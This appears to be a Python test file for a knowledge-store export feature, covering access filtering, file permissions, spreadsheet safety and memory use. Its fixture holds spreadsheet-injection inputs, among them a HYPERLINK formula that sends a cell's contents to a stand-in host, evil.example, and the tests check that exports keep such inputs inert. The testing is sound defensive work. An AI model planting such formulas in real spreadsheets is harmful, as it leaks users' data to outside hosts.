"""Exports of whole stores: who sees what in them, what spreadsheets make of them, what they cost in memory."""

import csv
import json
import os
import shutil
import subprocess
import tracemalloc
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from uuid import uuid4

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lightwell.domain.access import ClassSet, Reader
from lightwell.domain.documents import NewDocument
from lightwell.domain.errors import Invalid, NotFound
from lightwell.domain.exports import (
    ExportConfig,
    Exported,
    ExportFormat,
    ExportProgress,
    ExportTable,
)
from lightwell.domain.ids import ProjectId, new_id
from lightwell.records.database import Database
from lightwell.records.documents import documents
from lightwell.testing.sources import InMemorySource, make_document
from tests.generation import examples
from tests.patience import PATIENCE

from .conftest import Project, project_on
from .test_noninterference import TAGS, corpora

CLOSED_WORDS = "Acme Corp owes money to Nordwind, says Jane Smith."
OPEN_WORDS = "Acme Corp met Jane Smith in March."
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Acme Corp")'


async def store(database: Database, documents: Sequence[NewDocument]) -> Project:
    """Return a project with these documents, which have references of their own and came one after the other."""
    project = await project_on(database, name=uuid4().hex)
    named = [replace(one, system="shelf", source_id=Path(one.url).name) for one in documents]
    await project.kb.ingestion.ingest(InMemorySource(documents=tuple(named)), "shelf")
    return project


def everything(path: Path, *, batch_size: int = 1000, replace: bool = False) -> ExportConfig:
    return ExportConfig(
        format=ExportFormat(path.suffix.removeprefix(".")),
        output_path=path,
        include_chunks=True,
        include_vectors=True,
        batch_size=batch_size,
        replace=replace,
    )


async def exported(project: Project, tags: set[str], config: ExportConfig) -> dict[str, bytes]:
    """Return the bytes of each file of the export, by its name; of two stores, all was stated at the same time."""
    await project.database.execute(
        "UPDATE profiles SET created_at = timestamptz '2026-03-02 Z', stated_at = '2026-03-03 Z'",
        {},
    )
    written = await project.kb.documents.export(await project.kb.reader(tags), config)
    return {file.name: file.read_bytes() for file in written.files}


def names(folder: Path) -> list[str]:
    return sorted(each.name for each in folder.iterdir())


def permissions(folder: Path) -> set[int]:
    return {each.stat().st_mode & 0o777 for each in folder.iterdir()}


def table(file: Path) -> list[dict[str, str]]:
    with file.open(encoding="utf-8-sig", newline="") as rows:
        return list(csv.DictReader(rows))


# ── who sees what ─────────────────────────────────────────────────────────────────────────────────────


@examples(7)
@given(corpora(), st.sets(st.sampled_from(TAGS)), st.sampled_from(ExportFormat))
async def test_an_export_is_that_of_a_store_without_what_is_invisible(
    database: Database,
    tmp_path: Path,
    corpus: list[NewDocument],
    tags: set[str],
    form: ExportFormat,
) -> None:
    full = await store(database, corpus)
    own = await store(database, [one for one in corpus if one.acl_tags & tags])
    config = everything(tmp_path / f"all.{form}", batch_size=3, replace=True)
    assert await exported(full, tags, config) == await exported(own, tags, config)


async def test_an_export_holds_the_readers_part_and_no_word_more(
    database: Database, tmp_path: Path
) -> None:
    project = await store(
        database,
        [
            make_document("open.md", OPEN_WORDS, ["team:a"]),
            make_document("secret.md", CLOSED_WORDS, ["team:b"]),
        ],
    )
    closed = await exported(project, {"team:a"}, everything(tmp_path / "a.csv"))
    assert b"Acme Corp" in closed["a.csv"]
    for name, content in closed.items():
        for word in (b"Nordwind", b"owes", b"secret"):
            assert word not in content, name
    both = await exported(project, {"team:a", "team:b"}, everything(tmp_path / "both.csv"))
    assert b"Nordwind" in both["both.csv"]
    (acme,) = [row for row in table(tmp_path / "both.csv") if row["name"] == "Acme Corp"]
    assert acme["chunk_count"] == "2"
    assert acme["sources"].split("\n") == [
        "shelf:document:open.md#0",
        "shelf:document:secret.md#0",
    ]
    assert len({row["ref"] for row in table(tmp_path / "both.csv")}) == len(
        table(tmp_path / "both.csv")
    )


async def test_who_has_no_tags_exports_headings(database: Database, tmp_path: Path) -> None:
    project = await store(database, [make_document("open.md", OPEN_WORDS, ["team:a"])])
    await exported(project, set(), everything(tmp_path / "none.csv"))
    assert table(tmp_path / "none.csv") == []
    assert (tmp_path / "none.csv").read_text("utf-8-sig").startswith("ref,name,kind,")


async def test_an_export_is_its_owners_to_read(database: Database, tmp_path: Path) -> None:
    project = await store(database, [make_document("open.md", OPEN_WORDS, ["team:a"])])
    for name in ("g.csv", "g.xlsx", "g.md"):
        await exported(project, {"team:a"}, everything(tmp_path / name))
    assert permissions(tmp_path) == {0o600}


async def test_what_was_hidden_before_the_refresh_is_in_no_export(
    database: Database, tmp_path: Path
) -> None:
    """A command that hides a document may be killed between its commit and its refresh."""
    project = await store(
        database,
        [
            make_document("open.md", OPEN_WORDS, ["team:a"]),
            make_document("other.md", "Acme Corp met Jane Smith in Tarn Valley.", ["team:a"]),
        ],
    )
    shown = await project.kb.documents.get(
        await project.kb.reader(["team:a"]), "shelf:document:other.md"
    )
    async with database.transaction() as connection:
        await documents.change_access(
            connection, project.kb.project_id, {shown.id: frozenset({"team:b"})}
        )
    files = await exported(project, {"team:a"}, everything(tmp_path / "a.csv"))
    assert b"Tarn" not in b"".join(files.values())
    assert b"other.md" not in b"".join(files.values())
    (acme,) = [row for row in table(tmp_path / "a.csv") if row["name"] == "Acme Corp"]
    assert acme["chunk_count"] == "1"


async def test_an_entity_goes_by_the_reference_that_its_readers_know(
    database: Database, tmp_path: Path
) -> None:
    """Since a merge, a reader may see an entity by an alias alone; the profile says so."""
    project = await store(database, [make_document("open.md", OPEN_WORDS, ["team:a"])])
    await database.execute(
        "UPDATE profiles SET entity_ref = 'kg:entity:known-as' WHERE display_name = 'Acme Corp'", {}
    )
    files = await exported(project, {"team:a"}, everything(tmp_path / "a.csv"))
    assert b":acme-corp" not in b"".join(files.values())
    assert files["a-relations.csv"].count(b"kg:organization:known-as") >= 1


async def test_a_merge_with_something_invisible_shows_in_no_export(
    database: Database, tmp_path: Path
) -> None:
    mine = make_document("open.md", OPEN_WORDS, ["team:a"])
    theirs = make_document("closed.md", CLOSED_WORDS.replace("Acme Corp", "Osprey"), ["team:b"])
    full, own = await store(database, [mine, theirs]), await store(database, [mine])
    curator = await full.kb.reader(["team:a", "team:b"])
    await full.kb.graph.merge(curator, ["Acme Corp"], "Nordwind")
    config = everything(tmp_path / "a.csv", replace=True)
    assert await exported(full, {"team:a"}, config) == await exported(own, {"team:a"}, config)
    both = await exported(full, {"team:a", "team:b"}, everything(tmp_path / "both.csv"))
    assert b",Acme Corp," not in both["both.csv"]
    assert b",Nordwind," in both["both.csv"]


# ── what is in it ─────────────────────────────────────────────────────────────────────────────────────


async def test_the_four_tables_of_csv_fit_together(database: Database, tmp_path: Path) -> None:
    project = await store(
        database, [make_document("open.md", f"# Minutes\n\n{OPEN_WORDS}", ["team:a"])]
    )
    told: list[ExportProgress] = []
    result = await project.kb.documents.export(
        await project.kb.reader(["team:a"]), everything(tmp_path / "g.csv"), on_progress=told.append
    )
    files = ["g.csv", "g-relations.csv", "g-chunks.csv", "g-vectors.csv"]
    assert [file.name for file in result.files] == files
    entities, relations, chunks, vectors = (table(tmp_path / name) for name in files)
    assert {"Acme Corp", "Jane Smith"} <= {row["name"] for row in entities}
    refs = {row["ref"]: row["name"] for row in entities}
    assert relations
    for row in relations:
        assert refs[row["source"]] == row["source_name"]
        assert refs[row["target"]] == row["target_name"]
    assert [row["text"] for row in chunks] == [f"# Minutes\n\n{OPEN_WORDS}"]
    assert chunks[0]["section"] == "Minutes"
    assert [row["chunk"] for row in vectors] == ["shelf:document:open.md#0"]
    numbers = json.loads(vectors[0]["vector"])
    assert len(numbers) == int(vectors[0]["dimension"]) == 64
    kept = await database.rows("SELECT embedding FROM chunk_vectors_1", {})
    assert numbers == pytest.approx(kept[0][0].to_list(), abs=0, rel=1e-7)
    assert {table: count for table, count in result.rows.items()} == {
        ExportTable.ENTITIES: len(entities),
        ExportTable.RELATIONS: len(relations),
        ExportTable.CHUNKS: 1,
        ExportTable.VECTORS: 1,
    }
    ends = {one.table: (one.done, one.total) for one in told}
    assert ends == {name: (count, count) for name, count in result.rows.items()}


async def test_only_what_is_asked_for_is_written(database: Database, tmp_path: Path) -> None:
    project = await store(database, [make_document("open.md", OPEN_WORDS, ["team:a"])])
    config = ExportConfig(
        format=ExportFormat.CSV,
        output_path=tmp_path / "chunks.csv",
        include_entities=False,
        include_relations=False,
        include_chunks=True,
    )
    assert list(await exported(project, {"team:a"}, config)) == ["chunks.csv"]
    assert table(tmp_path / "chunks.csv")[0]["url"] == "file:///shelf/open.md"
    assert names(tmp_path) == ["chunks.csv"]


async def test_pages_for_people_name_everything(database: Database, tmp_path: Path) -> None:
    project = await store(database, [make_document("open.md", OPEN_WORDS, ["team:a"])])
    for name in ("g.md", "g.txt"):
        (content,) = (await exported(project, {"team:a"}, everything(tmp_path / name))).values()
        for words in ("Acme Corp", "→ related to →", "in 1 passage", OPEN_WORDS, "64 dimensions"):
            assert words in content.decode().replace("\\", ""), (name, words)


# ── spreadsheets ──────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture
async def hostile(database: Database) -> Project:
    """A store whose documents try to be calculated, to break out of a cell, or to be too long for it."""
    texts = {
        "a.txt": FORMULA,
        "b.txt": "\uff1d1+1 is a full-width formula of Acme Corp",
        "c.txt": " @SUM(1,2) begins with a blank",
        "d.txt": '<r></t></is></c><c r="A9"><f>1+1</f></c></r>',
        "e.txt": "CONTROL",
        "f.txt": "-1-1 minus",
        "g.txt": "a" + "\U0001f600" * 500 + " ends",
    }
    made = await store(
        database, [make_document(name, text, ["team:a"]) for name, text in texts.items()]
    )
    await database.execute(
        "UPDATE document_chunks SET chunk_text = %(text)s WHERE chunk_text = 'CONTROL'",
        {
            "text": "a bell \x07, an escape \x1b[31m, _x0041_ and a ]]> end"
        },  # what no parser lets pass
    )
    return made


async def test_a_workbook_opens_with_its_texts_as_texts(hostile: Project, tmp_path: Path) -> None:
    await exported(hostile, {"team:a"}, everything(tmp_path / "g.xlsx"))
    book = openpyxl.load_workbook(tmp_path / "g.xlsx")
    assert book.sheetnames == ["entities", "relations", "chunks", "vectors"]
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert [cell.coordinate for cell in row if cell.data_type == "f"] == []
    chunks = book["chunks"]
    texts = [row[-1].value for row in chunks.iter_rows(min_row=2)]
    assert texts[0] == FORMULA
    assert chunks.cell(2, chunks.max_column).quotePrefix
    assert texts[3] == '<r></t></is></c><c r="A9"><f>1+1</f></c></r> '
    assert len(texts) == 7
    vectors = book["vectors"]
    assert [cell.value for cell in vectors[1]][:5] == ["chunk", "model", "dimension", "0", "1"]
    assert vectors.max_column == 3 + 64
    assert isinstance(vectors.cell(2, 4).value, float | int)


async def test_csv_cells_cannot_be_formulas(hostile: Project, tmp_path: Path) -> None:
    await exported(hostile, {"team:a"}, everything(tmp_path / "g.csv"))
    texts = [row["text"] for row in table(tmp_path / "g-chunks.csv")]
    assert texts[0] == f"'{FORMULA}"
    assert texts[1].startswith("'\uff1d")
    assert texts[4] == "a bell , an escape [31m, _x0041_ and a ]]> end"
    assert texts[5] == "'-1-1 minus"
    for name in ("g.csv", "g-relations.csv", "g-chunks.csv", "g-vectors.csv"):
        for row in table(tmp_path / name):
            assert [cell for cell in row.values() if cell.lstrip()[:1] in tuple("=+-@")] == []


@pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed here"
)
@pytest.mark.parametrize("name", ["g.xlsx", "g-chunks.csv"])
async def test_libreoffice_opens_it_and_calculates_nothing(
    hostile: Project, tmp_path: Path, name: str
) -> None:
    await exported(hostile, {"team:a"}, everything(tmp_path / f"g{Path(name).suffix}"))
    opened = libreoffice(tmp_path / name)
    assert "table:formula" not in opened
    assert "HYPERLINK(" in opened
    assert "_x0041_ and a ]]&gt; end" in opened
    assert "\U0001f600" * 500 in opened
    if name.endswith("xlsx"):
        for sheet in ("entities", "relations", "chunks", "vectors"):
            assert f'table:name="{sheet}"' in opened


@pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed here"
)
def test_libreoffice_would_calculate_a_raw_cell(tmp_path: Path) -> None:
    (tmp_path / "raw.csv").write_text("text\n=1+1\n")
    assert "table:formula" in libreoffice(tmp_path / "raw.csv")


def libreoffice(file: Path) -> str:
    """Return what LibreOffice sees in the file, as flat OpenDocument."""
    profile = file.parent / "profile"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            *(
                ["--infilter=CSV:44,34,76,1"] if file.suffix == ".csv" else []
            ),  # commas, quotes, UTF-8
            "--convert-to",
            "fods",
            "--outdir",
            str(file.parent / "opened"),
            str(file),
        ],
        check=True,
        capture_output=True,
        timeout=PATIENCE,
    )
    return (file.parent / "opened" / f"{file.stem}.fods").read_text("utf-8")


# ── where it goes ─────────────────────────────────────────────────────────────────────────────────────


async def test_a_file_that_is_there_is_kept_unless_asked(
    database: Database, tmp_path: Path
) -> None:
    project = await store(database, [make_document("open.md", OPEN_WORDS, ["team:a"])])
    (tmp_path / "g-vectors.csv").write_text("mine")
    with pytest.raises(Invalid, match=r"g-vectors\.csv' exists already"):
        await exported(project, {"team:a"}, everything(tmp_path / "g.csv"))
    assert names(tmp_path) == ["g-vectors.csv"]
    assert (tmp_path / "g-vectors.csv").read_text() == "mine"
    await exported(project, {"team:a"}, everything(tmp_path / "g.csv", replace=True))
    assert (tmp_path / "g-vectors.csv").read_text("utf-8-sig").startswith("chunk,")


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("absent/g.csv", "There is no folder '.*absent' to write to"),
        ("folder.csv", "is a folder; name a file in it"),
    ],
)
async def test_a_place_that_cannot_be_written_to_is_named(
    project: Project, tmp_path: Path, name: str, message: str
) -> None:
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(Invalid, match=message):
        await exported(project, {"team:a"}, everything(tmp_path / name))


async def test_a_project_that_is_gone_is_not_found(project: Project, tmp_path: Path) -> None:
    nobody = Reader(project_id=ProjectId(new_id()), tags=frozenset({"team:a"}), classes=ClassSet())
    with pytest.raises(NotFound, match="There is no project"):
        await project.kb.documents.export(nobody, everything(tmp_path / "g.csv"))
    assert names(tmp_path) == []


@pytest.mark.parametrize("form", list(ExportFormat))
async def test_what_ends_in_the_middle_leaves_nothing_behind(
    database: Database, tmp_path: Path, form: ExportFormat
) -> None:
    project = await store(database, [make_document("open.md", OPEN_WORDS, ["team:a"])])
    (tmp_path / f"g.{form}").write_text("the export of yesterday")

    def tell(progress: ExportProgress) -> None:
        if progress.table is ExportTable.CHUNKS and progress.done:
            raise KeyboardInterrupt

    config = everything(tmp_path / f"g.{form}", replace=True)
    with pytest.raises(KeyboardInterrupt):
        await project.kb.documents.export(
            await project.kb.reader(["team:a"]), config, on_progress=tell
        )
    assert names(tmp_path) == [f"g.{form}"]
    assert (tmp_path / f"g.{form}").read_text() == "the export of yesterday"


# ── what it costs ─────────────────────────────────────────────────────────────────────────────────────

MANY, LENGTH = 2_000, 20_000


@pytest.fixture
async def large(project: Project) -> Project:
    """Two thousand entities, each with 20,000 letters said of it: 40 MB of text."""
    await project.kb.ingestion.ingest(
        InMemorySource(documents=(make_document("open.md", OPEN_WORDS, ["team:a"]),))
    )
    async with project.database.transaction() as connection:
        await connection.execute(
            """
            CREATE TEMP TABLE made ON COMMIT DROP AS
            SELECT gen_random_uuid() AS id, number FROM generate_series(1, %(many)s) AS number
            """,
            {"many": MANY},
        )
        await connection.execute(
            """
            INSERT INTO entities (entity_id, project_id, entity_ref, normalized_name)
            SELECT id, %(project)s, 'kg:entity:made-' || number, 'made ' || number FROM made
            """,
            {"project": project.kb.project_id},
        )
        await connection.execute(
            """
            INSERT INTO profiles (subject_id, class_id, subject, display_name, entity_kind, description,
                                  mention_count, source_ids)
            SELECT id, class_id, 'entity', 'Made ' || number, 'term', repeat('far-away ', %(words)s), 1,
                   ARRAY[chunk_id]
            FROM made CROSS JOIN document_chunks
            """,
            {"words": LENGTH // 9},
        )
    return project


# md and txt are written by the same class.
@pytest.mark.slow
@pytest.mark.parametrize("form", [ExportFormat.CSV, ExportFormat.XLSX, ExportFormat.MD])
async def test_memory_does_not_grow_with_what_is_exported(
    large: Project, tmp_path: Path, form: ExportFormat
) -> None:
    """A batch of 50 rows is 1 MB of text; all rows are 40 MB, and would show.

    Python's own memory is traced. The database library keeps a result outside of it, so the size of the whole
    process is looked at too: a cursor that is not the server's brings all rows at once.
    """
    sizes: list[int] = []
    reader = await large.kb.reader(["team:a"])
    before = resident()
    tracemalloc.start()
    try:
        result: Exported = await large.kb.documents.export(
            reader,
            everything(tmp_path / f"g.{form}", batch_size=50),
            on_progress=lambda progress: sizes.append(resident()),
        )
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert result.rows[ExportTable.ENTITIES] >= MANY
    assert sum(file.stat().st_size for file in result.files) > (
        0 if form == "xlsx" else 0.9 * MANY * LENGTH
    )
    assert peak < 8e6
    assert max(sizes) - before < 25e6


def resident() -> int:
    """Return how many bytes of memory this process has."""
    pages = int(Path("/proc/self/statm").read_text().split()[1])
    return pages * os.sysconf("SC_PAGE_SIZE")
